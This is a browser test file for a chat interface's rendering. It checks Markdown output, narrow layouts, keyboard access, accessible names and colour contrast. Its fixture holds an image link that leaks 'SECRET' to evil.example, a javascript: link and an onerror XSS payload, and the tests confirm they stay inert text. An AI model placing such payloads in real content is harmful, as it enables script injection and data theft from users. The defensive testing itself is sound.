"""What the page looks like in a real browser: Markdown, narrow windows, names, contrast."""

from __future__ import annotations

from typing import Literal

import pytest
from playwright.async_api import Page, expect

from tests.adapters.web.visits import PacedModel, Visit, ask, open_form

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

RICH = """## 규칙

호반느는 **두 팀**이 하고 `공`을 써요.

- 하나
  1. 안에 하나

| 이름 | 점수 |
|---|---:|
| 호수 | 3 |

```python
print("<b>공</b>")
```

> 인용

[규칙](https://rules.example/a) ![x](https://evil.example/?q=SECRET) [나쁜](javascript:alert(1)) <img src=x onerror=alert(1)>"""


SCHEMES: tuple[Literal["light", "dark"], ...] = ("light", "dark")
# Controls without a name for a screen reader.
NAMELESS = """() => [...document.querySelectorAll("button, input, textarea, select, summary, a, [tabindex]")]
    .filter(one => !(one.ariaLabel || one.innerText?.trim() || one.textContent.trim() || one.labels?.length))
    .map(one => one.outerHTML)"""
# Texts with less contrast to what is behind them than 4.5 to 1 (WCAG 2.2, 1.4.3).
CONTRASTS = """() => {
    const paint = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
    const rgb = (colour) => {
        paint.clearRect(0, 0, 1, 1);
        paint.fillStyle = colour;
        paint.fillRect(0, 0, 1, 1);
        return [...paint.getImageData(0, 0, 1, 1).data];
    };
    const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
        .map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
        .reduce((sum, v, at) => sum + v * [0.2126, 0.7152, 0.0722][at], 0);
    const behind = (one) => {
        for (; one; one = one.parentElement) {
            const found = rgb(getComputedStyle(one).backgroundColor);
            if (found[3] === 255) return found;
        }
        return [255, 255, 255];
    };
    const shown = [...document.querySelectorAll("body *")].filter(one => one.checkVisibility()
        && [...one.childNodes].some(child => child.nodeType === 3 && child.data.trim()));
    return shown.filter(one => {
        const [a, b] = [light(rgb(getComputedStyle(one).color)), light(behind(one))].sort((x, y) => y - x);
        return (a + 0.05) / (b + 0.05) < 4.5;
    }).map(one => one.outerHTML.slice(0, 120));
}"""


async def test_what_the_model_writes_is_drawn_but_never_carried_out(visit: Visit, model: PacedModel) -> None:
    model.steps = [RICH]
    page = await visit.page()
    await ask(page, "규칙을 알려 줘")
    drawn = page.locator(".bot .markdown")

    await expect(drawn.locator("h4")).to_have_text("규칙")
    await expect(drawn.locator("strong")).to_have_text("두 팀")
    await expect(drawn.locator("ul > li > ol > li")).to_have_text("안에 하나")
    await expect(drawn.locator("td.number")).to_have_text("3")
    await expect(drawn.locator("pre code")).to_have_text('print("<b>공</b>")')
    await expect(drawn.locator("blockquote")).to_have_text("인용")
    await expect(drawn.locator("a")).to_have_count(1)
    await expect(drawn.locator(".host")).to_have_text(" (rules.example)")
    await expect(drawn.locator("img, script, b")).to_have_count(0)
    for source in ("![x](https://evil.example/?q=SECRET)", "[나쁜](javascript:alert(1))", "<img src=x"):
        await expect(drawn).to_contain_text(source)


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_a_narrow_page_fits_and_its_side_opens_by_keyboard(
    visit: Visit, model: PacedModel, scheme: Literal["light", "dark"]
) -> None:
    model.steps = [RICH]
    page = await visit.page()
    await page.emulate_media(color_scheme=scheme)
    await page.set_viewport_size({"width": 340, "height": 640})
    await ask(page, "규칙을 알려 줘")
    await expect(page.locator(".bot table")).to_be_visible()
    assert await page.evaluate("document.documentElement.scrollWidth") <= 340

    await page.locator("#side-open").focus()
    await page.keyboard.press("Enter")
    await expect(page.locator("#side")).to_be_visible()
    await page.keyboard.press("Escape")
    await expect(page.locator("#side")).to_be_hidden()
    await expect(page.locator("#side-open")).to_be_focused()


async def _settled(page: Page) -> object:
    """What is too pale once nothing fades or moves any more, which a busy machine takes a while for."""
    pale: object = None
    for _ in range(30):
        await page.evaluate("Promise.allSettled(document.getAnimations().map(one => one.finished))")
        pale = await page.evaluate(CONTRASTS)
        if pale == []:
            break
        await page.wait_for_timeout(100)
    return pale


async def test_everything_to_use_has_a_name_and_text_stands_out(visit: Visit) -> None:
    page = await visit.page()
    await open_form(page, "prompt")

    nameless = await page.evaluate(NAMELESS)
    assert nameless == []
    for scheme in SCHEMES:
        await page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
        assert await _settled(page) == []
